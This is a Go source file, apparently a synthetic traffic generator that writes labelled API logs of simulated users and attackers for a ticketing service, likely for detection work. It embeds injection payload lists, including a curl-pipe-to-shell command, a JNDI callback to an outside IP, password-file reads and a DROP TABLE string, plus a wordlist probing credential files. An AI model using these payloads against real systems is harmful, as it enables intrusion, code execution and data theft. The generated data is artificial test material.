	p = g.np("10.40.7."+itoa(10+sr.IntN(200)), "tixhub-search-indexer/1.9 Go-http-client/2.0", key(), 180, 0)
	for t := sec(uni(sr, 0, 120)); t < g.win; t += sec(120) {
		for pg, n := 1, 3+p.r.IntN(6); pg <= n; pg++ {
			g.emit(p, t+sec(float64(pg)*.4), "GET", fmt.Sprintf("/v2/events?updated_since=%s&page=%d&limit=100&sort=updated", g.iso(t-sec(180)), pg), rList, 200, 0)
		}
	}
}

var scanPaths = strings.Fields(`/.env /.env.production /.git/config /.git/HEAD /.svn/entries /.DS_Store /wp-login.php /wp-admin/ /xmlrpc.php /wp-content/plugins/ /admin /admin/login /administrator/ /phpmyadmin/ /pma/ /server-status /actuator /actuator/env /actuator/health /swagger-ui.html /swagger.json /v2/api-docs /v3/api-docs /openapi.json /v2/openapi.json /api/swagger.json /graphql /graphiql /console /manager/html /jenkins/login /solr/admin/info/system /.aws/credentials /config.json /config.yml /backup.zip /backup.sql /db.sql /dump.sql /site.tar.gz /.htaccess /.htpasswd /web.config /cgi-bin/luci /cgi-bin/test.cgi /HNAP1/ /boaform/admin/formLogin /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /index.php?s=/index/\think\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1 /_ignition/execute-solution /telescope/requests /debug/default/view /api/v1/pods /.well-known/security.txt /robots.txt /sitemap.xml /login.action /owa/auth/logon.aspx /remote/login /global-protect/login.esp /Autodiscover/Autodiscover.xml /containers/json /metrics /debug/pprof/ /api/jsonws/invoke /.vscode/sftp.json /info.php /phpinfo.php /v2/internal/admin/users /v2/admin/config /v1/events /api/v1/users /v2/graphql?query={__schema{types{name}}} /v2/users /v2/accounts /v2/debug /v2/export /v2/keys /v2/tokens /v2/config /v2/backup /v2/events.json /v2/me/../admin`)

// scanSt: first matching substring decides the probe's status choices (default 404)
var scanSt = strings.Fields("robots=200 sitemap=200 openapi=200 security.txt=200,404 graphql=400 actuator=403,404 metrics=403 admin=403,404,404 status=403 /.git=403,404 /v2/=401,404 =404")

var payloads = [][]string{
	{"' OR '1'='1", "1' AND SLEEP(5)-- -", "1 UNION SELECT NULL,NULL,version()--", "')) OR 1=1--", "admin'--", "1;WAITFOR DELAY '0:0:5'--", "1' AND extractvalue(1,concat(0x7e,(select user())))-- -", "-1 OR 2+2=4", "1' ORDER BY 10-- -", "\"; DROP TABLE events;--", "1 AND (SELECT 1 FROM pg_sleep(5))", "lisbon' AnD 1=1 uNiOn SeLeCt 1,2,3--"},
	{"<script>alert(1)</script>", "\"><img src=x onerror=alert(document.domain)>", "javascript:alert(1)", "<svg/onload=confirm(1)>", "'-alert(1)-'", "<iframe src=javascript:alert`1`>", "<details open ontoggle=prompt(1)>"},
	{"{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "#{7*7}", "{{''.__class__.__mro__[1].__subclasses__()}}", "*{T(java.lang.Runtime).getRuntime().exec('id')}"},
	{"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd", "..\\..\\..\\windows\\win.ini", "%252e%252e%252fetc%252fpasswd", "/proc/self/environ", "file:///etc/shadow"},
	{";cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "&& curl http://45.9.148.3/x.sh|sh", ";sleep 5;", "|| ping -c 3 127.0.0.1"},
	{"${jndi:ldap://45.9.148.3:1389/a}", "${${lower:j}ndi:dns://x7k2.oast.fun/a}", "{\"$ne\":null}", "'||'1'=='1", "*)(uid=*))(|(uid=*"},
}

func encode(r *rand.Rand, s string) string {
	switch x := r.Float64(); {
	case x < .35: // raw (only spaces and '#' made transportable)
		return strings.NewReplacer(" ", pick(r, []string{"%20", "+", "/**/"}), "#", "%23").Replace(s)
	case x < .85:
		return url.QueryEscape(s)
	}
	return strings.ReplaceAll(url.QueryEscape(url.QueryEscape(s)), "%25", pick(r, []string{"%25", "%u0025"}))
}

func (g *Gen) attacker(kind string) {
	r, W := g.r, float64(g.win)/1e9
	x := r.Float64()
	lvl := tern(x > .7, 2, tern(x > .35, 1, 0)) // 0 subtle, 1 medium, 2 blatant
	pre := tern(lvl == 0 && r.Float64() < .6, tern(r.Float64() < .25, resV6, resV4), tern(r.Float64() < .1, hostV6, hostV4))
	p := &P{c: g.client(g.ip(r, pre), kind, false, 1), r: g.sub(), bw: uni(r, 20, 400)}
	rr := p.r
	bro := lvl == 0 || p.ch(.3)
	p.ua, p.hdr = tern(bro, browserUA(rr), pick(rr, append(scripts, "Go-http-client/1.1", "Python/3.11 aiohttp/3.9.3", ""))), tern(bro, 400+rr.IntN(700), 110+rr.IntN(150))
	t := sec(uni(rr, .04, .8) * W)
	if lvl == 0 && p.ch(.6) || lvl == 1 && p.ch(.2) { // ordinary browsing before the onset
		p.uname = pick(rr, first) + itoa(rr.IntN(999))
		g.browse(p, t-sec(uni(rr, 30, 300)), 2+rr.IntN(6))
	}
	p.atk = true
	lv := func(a, b, c, d, e, f float64) float64 {
		return [...]float64{uni(rr, a, b), uni(rr, c, d), uni(rr, e, f)}[lvl]
	}
	rate, fixed := 1.0, false
	next := func() { t += tern(fixed, sec(uni(rr, .85, 1.15)/rate), sec(rr.ExpFloat64()/rate)) }
	cover := func(pr float64) { // subtle attackers interleave normal-looking screens
		if lvl == 0 && p.ch(pr) {
			p.atk, t = false, g.view(p, t)
			p.atk = true
		}
	}
	e := func(m, path string, rc, st int, body int64) int { return g.emit(p, t, m, path, rc, st, body) }
	switch kind {
	case "flood": // HTTP flood rotating 1-3 targets, optional cache buster / UA rotation
		rate, fixed = lv(1.5, 4, 5, 15, 18, 70), p.ch(.5)
		end, city, ev := t+sec(lv(300, 720, 120, 480, 45, 200)), pick(rr, cities), g.events[pop(rr, 30)]
		tg := []string{"GET /v2/events?city=" + city + "&page=1&limit=24", "GET /v2/search?q=" + q(pick(rr, terms)) + "&type=event", "POST /v2/graphql?op=HomeFeed",
			"GET /v2/events/" + ev, "GET /v2/events/" + ev + "/seatmap?section=A", "GET /v2/config/client?platform=web", "POST /v2/auth/refresh"}
		rr.Shuffle(len(tg), func(i, j int) { tg[i], tg[j] = tg[j], tg[i] })
		tg, bust, uas := tg[:1+rr.IntN(3)], p.ch(.4), []string{p.ua}
		for n := tern(lvl > 0 && p.ch(.35), 4+rr.IntN(15), 0); n > 0; n-- {
			uas = append(uas, browserUA(rr))
		}
		for ; t < end; next() {
			m, path, _ := strings.Cut(pick(rr, tg), " ")
			if p.ua = pick(rr, uas); bust {
				path += tern(strings.Contains(path, "?"), "&", "?") + "_=" + strconv.FormatInt(g.start.UnixMilli()+t/1e6, 10)
			}
			e(m, path, tern(strings.Contains(path, "/auth/"), rAuth, tern(m == "GET", rList, rGQL)), 200, tern(m == "GET", int64(0), 600))
		}
	case "scan": // wordlist probing, mostly 404
		rate, fixed = lv(.05, .3, 1.5, 6, 8, 40), p.ch(.5)
		paths := slices.Clone(scanPaths)
		if lvl == 0 || p.ch(.5) {
			rr.Shuffle(len(paths), func(i, j int) { paths[i], paths[j] = paths[j], paths[i] })
		}
		for i, n := 0, int(lv(15, 60, 150, 600, 300, 1800)); i < n && t < g.win; i++ {
			path := tern(i < len(paths), paths[i%len(paths)], "/"+pick(rr, strings.Fields("backup old dev test api app site admin db v1 staging"))+pick(rr, strings.Fields(".zip .tar.gz .sql .bak / /.env /config.php /login /swagger.json")))
			_, v, _ := strings.Cut(scanSt[slices.IndexFunc(scanSt, func(s string) bool { k, _, _ := strings.Cut(s, "="); return strings.Contains(path, k) })], "=")
			m, st := "GET", 0
			st, _ = strconv.Atoi(pick(rr, strings.Split(v, ",")))
			switch y := rr.Float64(); {
			case y < .06:
				m = "HEAD"
			case y < .09:
				m, st = "OPTIONS", 204
			case y < .1:
				m, st = pick(rr, []string{"PROPFIND", "TRACE", "PUT"}), 405
			case strings.Contains(path, "wp-login") || strings.Contains(path, "xmlrpc"):
				m = "POST"
			}
			e(m, path, rStatic, st, 0)
			next()
		}
	case "bruteforce": // password guessing or OTP guessing against auth endpoints
		rate = lv(.05, .2, .5, 2, 3, 15)
		end, path, done := t+sec(lv(400, 800, 120, 400, 60, 200)), pick(rr, []string{"/v2/auth/token", "/v2/auth/token", "/v2/auth/otp/verify", "/v2/auth/token?grant_type=password"}), false
		for ; t < end; next() {
			st := tern(lvl < 2 && !done && p.ch(.015), 200, 401)
			if e("POST", path, rAuth, st, int64(uni(rr, 90, 170))) == 200 && st == 200 {
				done, p.user = true, pick(rr, g.pool).uname
				t = g.view(p, t+sec(1)) // account takeover: look around
			} else if lvl == 1 && p.ch(.1) {
				t += sec(uni(rr, 10, 40))
			}
		}
	case "injection": // SQLi/XSS/SSTI/traversal/cmdi/log4j/NoSQL payloads in query, path or GraphQL op
		rate = lv(.05, .15, .3, 1.5, 2, 10)
		cls, points := rr.Perm(len(payloads))[:2+rr.IntN(4)], rr.Perm(6)[:1+rr.IntN(3)]
		if lvl == 2 && p.ch(.5) {
			p.ua = "sqlmap/1.8.3#stable (https://sqlmap.org)"
		}
		for i, n := 0, int(lv(10, 40, 60, 250, 200, 1200)); i < n && t < g.win; i++ {
			cover(.5)
			pl := pick(rr, payloads[pick(rr, cls)])
			enc, st, m, rc, path := encode(rr, pl), pick(rr, []int{200, 200, 200, 400, 400, 500}), "GET", rSearch, ""
			switch pt := pick(rr, points); {
			case pt < 3:
				path, rc = []string{"/v2/search?q=%s&type=event", "/v2/events?city=%s&page=1", "/v2/events?city=lisbon&sort=%s"}[pt], tern(pt == 0, rSearch, rList)
			case pt == 3:
				path, rc, st = "/v2/events/%s", rDetail, pick(rr, []int{404, 404, 400, 500})
				enc = strings.ReplaceAll(enc, "/", "%2F")
			case pt == 4:
				path, rc, st = "/v2/tickets/%s/pdf", rPDF, pick(rr, []int{404, 400, 403})
			default:
				m, rc, path = "POST", rGQL, "/v2/graphql?op=%s"
			}
			path = strings.Replace(path, "%s", enc, 1)
			e(m, path, rc, tern(p.ch(.1), 403, st), tern(m == "POST", int64(900), 0))
			if (strings.Contains(strings.ToLower(pl), "sleep") || strings.Contains(pl, "DELAY")) && g.last >= 0 && p.ch(.3) {
				g.evs[g.last].dur += 5000 + rr.Float64()*40 // time-based blind payload worked
			}
			next()
		}
	case "scraping": // catalog walk, artist walk, or scalper seat-map polling of hot events
		rate = lv(.3, .8, 1, 4, 6, 22)
		end, mode, i, pg, city := t+sec(lv(360, 840, 180, 600, 90, 360)), rr.IntN(3), rr.IntN(len(g.events)), 1, pick(rr, cities)
		for hot := g.events[:5+rr.IntN(20)]; t < end; next() {
			ev := g.events[i%len(g.events)]
			switch {
			case mode == 1:
				ev = pick(rr, hot)
				e("GET", "/v2/events/"+ev+"/seatmap?section="+string(rune('A'+rr.IntN(8))), rSeat, 200, 0)
			case i%50 == 0:
				e("GET", fmt.Sprintf("/v2/events?city=%s&page=%d&limit=50&sort=date", city, pg), rList, 200, 0)
				pg, i = pg+1, i+1
				continue
			case mode == 2 && i%3 == 0:
				e("GET", "/v2/artists/"+g.artists[i%len(g.artists)], rDetail, 200, 0)
			default:
				e("GET", "/v2/events/"+ev, rDetail, 200, 0)
			}
			if i++; p.ch(.4) {
				g.emit(p, t+sec(uni(rr, .03, .15)), "GET", "/v2/events/"+ev+"/offers", rDetail, 200, 0)
			}
		}
	case "upload": // oversized bodies: avatar, organizer media, CSV import, GraphQL batch
		rate = lv(1/60., 1/20., 1/10., 1/3., .3, 2)
		p.user, p.key = pick(rr, first)+itoa(rr.IntN(99)), pick(rr, []string{"", "key_" + hexs(rr, 8)})
		tgt := rr.IntN(4)
		for i, n := 0, int(lv(5, 25, 15, 60, 30, 200)); i < n && t < g.win; i++ {
			b := int64(lv(8, 24, 20, 90, 50, 500) * (1 << 20))
			st := tern(b > 25<<20, tern(p.bw < 60 && p.ch(.33), 408, 413), 201)
			m, path, _ := strings.Cut([]string{"PUT /v2/me/avatar", "POST /v2/organizer/imports/attendees", "POST /v2/graphql?op=" + pick(rr, gqlOps), "POST /v2/organizer/events/" + pick(rr, g.events) + "/media"}[tgt], " ")
			e(m, path, rUpload, st, b)
			next()
		}
	case "enumeration": // walks invoice ids, user ids or order codes with a real account
		rate = lv(.1, .4, 1, 3, 5, 20)
		p.user = pick(rr, first) + "." + pick(rr, last) + itoa(rr.IntN(99))
		res, id, step := rr.IntN(3), g.invMax-rr.IntN(20000), pick(rr, []int{1, 1, 1, -1, 2})
		for i, n := 0, int(lv(20, 120, 100, 600, 300, 2500)); i < n && t < g.win; i++ {
			cover(.4)
			st := tern(id > g.invMax || p.ch(.04), 404, pick(rr, []int{403, 403, 403, 403, 404, 403, 403, 403, 403, 200}))
			switch res {
			case 0:
				e("GET", "/v2/invoices/"+itoa(id), rDetail, st, 0)
			case 1:
				e("GET", "/v2/users/"+itoa(id%g.userMax)+"/profile", rSmall, pick(rr, []int{st, st, st, 200}), 0)
			default:
				e("GET", "/v2/orders/TX-"+strings.ToUpper(strconv.FormatInt(int64(id)*7919, 36)), rDetail, pick(rr, []int{404, 404, 404, 403}), 0)
			}
			id += step + tern(lvl == 0, rr.IntN(5), 0)
			next()
		}
	}
}

// lowslow: credential stuffing from a residential-proxy pool, few attempts per IP, minutes apart.
func (g *Gen) lowslow() {
	r, W := g.r, float64(g.win)/1e9
	start := uni(r, .05, .45) * W
	for range 30 + r.IntN(16) {
		p := &P{c: g.client(g.ip(r, tern(r.IntN(5) == 0, resV6, resV4)), "lowslow", false, 1), r: g.sub(), hdr: 450 + r.IntN(600), atk: true}
		p.ua = browserUA(p.r)
		for a, n, t := 0, 1+p.r.IntN(5), sec(uni(p.r, start, W-30)); a < n && t < g.win; a, t = a+1, t+sec(uni(p.r, 60, 300)) {
			if p.ch(.4) {
				g.emit(p, t-sec(uni(p.r, .5, 3)), "GET", "/v2/config/client?platform=web", rSmall, 200, 0)
			}
			if g.emit(p, t, "POST", "/v2/auth/token", rAuth, tern(p.ch(.03), 200, 401), int64(uni(p.r, 85, 160))) == 200 {
				p.user = pick(p.r, g.pool).uname
				g.emit(p, t+sec(.6), "GET", "/v2/me", rSmall, 200, 0)
				g.emit(p, t+sec(1.1), "GET", "/v2/me/orders?page=1", rList, 200, 0)
				p.user = ""
			}
		}
	}
}

func main() {
	seed, site := flag.Uint64("seed", 1, "run seed (the day)"), flag.Uint64("site", 7, "site seed (the service)")
	startS, minutes, nc := flag.String("start", "2026-04-07T13:00:00Z", "start (RFC 3339)"), flag.Int("minutes", 15, "duration"), flag.Int("clients", 3000, "client IPs")
	out, labf := flag.String("out", "events.jsonl", "events output"), flag.String("labels", "labels.jsonl", "labels output")
	flag.Parse()
	start, err := time.Parse(time.RFC3339, *startS)
	if err != nil {
		fmt.Fprintln(os.Stderr, "bad -start:", err)
		os.Exit(2)
	}
	g := &Gen{r: rand.New(rand.NewPCG(*seed, *site^0x9e3779b97f4a7c15)), sr: rand.New(rand.NewPCG(*site, 0x517e)), start: start.UTC(), win: int64(*minutes) * 60e9, ipset: map[string]bool{}}
	sr, r, W := g.sr, g.r, float64(*minutes)*60
	for range 260 { // site catalog
		g.artists = append(g.artists, pick(sr, words1)+"-"+pick(sr, words2)+tern(sr.IntN(3) > 0, "", "-"+itoa(sr.IntN(99))))
	}
	for i := range 1050 {
		ev := fmt.Sprintf("%s-%s-%d-%02d-%02d", pick(sr, g.artists), pick(sr, cities), tern(i < 900, 2026, 2025), tern(i < 900, 4+sr.IntN(9), 1+sr.IntN(12)), 1+sr.IntN(28))
		g.events, g.stale = tern(i < 900, append(g.events, ev), g.events), tern(i < 900, g.stale, append(g.stale, ev))
	}
	for range 140 {
		g.venues = append(g.venues, uuid(sr))
	}
	g.invMax, g.userMax = 480000+sr.IntN(100000), 900000+sr.IntN(300000)
	iosKey, andKey := "key_"+hexs(sr, 8), "key_"+hexs(sr, 8)
	for range *nc * 8 / 5 { // user pool (site-level identities); each day draws a subset
		p := &P{bw: uni(sr, 2, 40), inv: 1000 + sr.IntN(g.invMax-1000), uname: g.ip(sr, tern(sr.Float64() < .18, resV6, resV4))}
		name := pick(sr, first) + pick(sr, []string{".", "_", ""}) + pick(sr, last) + pick(sr, []string{"", itoa(sr.IntN(100)), itoa(1960 + sr.IntN(45))})
		switch ty := sr.Float64(); {
		case ty < .58:
			p.ua, p.hdr = browserUA(sr), 500+sr.IntN(1000)
		case ty < .91:
			p.ua, p.hdr, p.app = fillUA(sr, pick(sr, appT)), 300+sr.IntN(350), true
			p.key = tern(strings.Contains(p.ua, "iPhone") || strings.Contains(p.ua, "CFNetwork"), iosKey, andKey)
		case ty < .95:
			p.ua, p.hdr, p.key = pick(sr, scripts), 150+sr.IntN(170), "key_"+hexs(sr, 8)
		default:
			p.ua, p.hdr, p.org = browserUA(sr), 600+sr.IntN(900), true
		}
		p.c, p.uname = &Client{ip: p.uname}, tern(sr.Float64() < .75, name, "")
		g.pool = append(g.pool, p)
	}
	for range 1 + r.IntN(2) { // backend incidents of this day
		a := sec(uni(r, .1, .9) * W)
		g.inc = append(g.inc, [4]int64{a, a + sec(uni(r, 20, 90)), pick(r, []int64{1<<rPay | 1<<rOrder, 1<<rSeat | 1<<rDetail | 1<<rList, 1<<rSearch | 1<<rGQL, 0xffff}), int64(uni(r, 80, 350))})
	}
	g.heavy()
	for _, k := range strings.Fields("flood scan bruteforce injection scraping upload enumeration") {
		for range 5 + r.IntN(3) {
			g.attacker(k)
		}
	}
	g.lowslow()
	for _, i := range r.Perm(len(g.pool))[:min(max(0, *nc-len(g.clients)), len(g.pool))] {
		p := g.pool[i]
		p.c, p.r = g.client(p.c.ip, "normal", false, 1), g.sub()
		// consecutive sessions separated by idle gaps; scripts run until the end
		for s, n, t := 0, 1+tern(p.ch(.5), 1, 0)+tern(p.ch(.2), 1, 0), sec(uni(p.r, -300, W-10)); s < n && t < g.win; s, t = s+1, t+sec(uni(p.r, 20, 300)) {
			p.user = tern(p.uname != "" && p.ch(.4), p.uname, "") // remembered session
			if p.key != "" && !p.app {
				g.dev(p, t)
				break
			}
			t = g.browse(p, t, 4+int(p.r.ExpFloat64()*45))
		}
		if p.c.n == 0 {
			g.browse(p, sec(uni(p.r, 0, W-5)), 2)
		}
	}
	slices.SortStableFunc(g.evs, func(a, b Ev) int { return cmp.Compare(a.t, b.t) })
	for i := range g.evs { // gateway rate limiting, applied in time order
		if e := &g.evs[i]; !e.c.allow(e.t, e.rc) {
			e.st, e.resp, e.dur = 429, int64(uni(r, 60, 120)), math.Round(uni(r, .2, 2)*100)/100
		}
	}
	keys := strings.Fields("client_ip method path status req_bytes resp_bytes duration_ms user_agent api_key user")
	write(*out, func(w *bufio.Writer) {
		var b []byte
		for i := range g.evs {
			e := &g.evs[i]
			b = g.start.Add(time.Duration(e.t)).AppendFormat(append(b[:0], `{"ts":"`...), "2006-01-02T15:04:05.000Z07:00")
			for j, v := range []string{e.c.ip, e.m, e.path, itoa(e.st), strconv.FormatInt(e.req, 10), strconv.FormatInt(e.resp, 10), strconv.FormatFloat(e.dur, 'f', -1, 64), e.ua, e.key, e.user} {
				if b = append(b, tern(j == 0, `"`, "")...); j < 8 || v != "" {
					if b = append(append(append(b, ',', '"'), keys[j]...), '"', ':'); j >= 3 && j <= 6 {
						b = append(b, v...)
					} else {
						b = strconv.AppendQuote(b, v)
					}
				}
			}
			w.Write(append(b, "}\n"...))
		}
	})
	kinds, evk, heavy := map[string]int{}, map[string]int{}, 0
	for i := range g.evs {
		evk[g.evs[i].c.kind]++
	}
	write(*labf, func(w *bufio.Writer) {
		for _, c := range g.clients {
			if c.n == 0 {
				continue
			}
			kinds[c.kind]++
			heavy += tern(c.heavy, 1, 0)
			ts := func(t int64) string {
				return tern(t < 0 || c.kind == "normal", "null", `"`+g.start.Add(time.Duration(t)).Format("2006-01-02T15:04:05.000Z07:00")+`"`)
			}
			fmt.Fprintf(w, `{"client":%q,"kind":%q,"onset":%s,"end":%s,"heavy":%t}`+"\n", c.ip, c.kind, ts(c.on), ts(c.off), c.heavy)
		}
	})
	tot := 0
	for _, v := range kinds {
		tot += v
	}
	fmt.Printf("%s: %d events, %d clients (%d legit heavy), %d attackers (%.1f%%)\n", *out, len(g.evs), tot, heavy, tot-kinds["normal"], 100*float64(tot-kinds["normal"])/float64(tot))
	for _, k := range strings.Fields("normal flood scan bruteforce injection scraping upload enumeration lowslow") {
		fmt.Printf("  %-12s clients=%-5d events=%d\n", k, kinds[k], evk[k])
	}
}

func write(path string, f func(w *bufio.Writer)) {
	fh, err := os.Create(path)
	if err == nil {
		w := bufio.NewWriterSize(fh, 1<<20)
		f(w)
		if err = w.Flush(); err == nil {
			err = fh.Close()
		}
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}
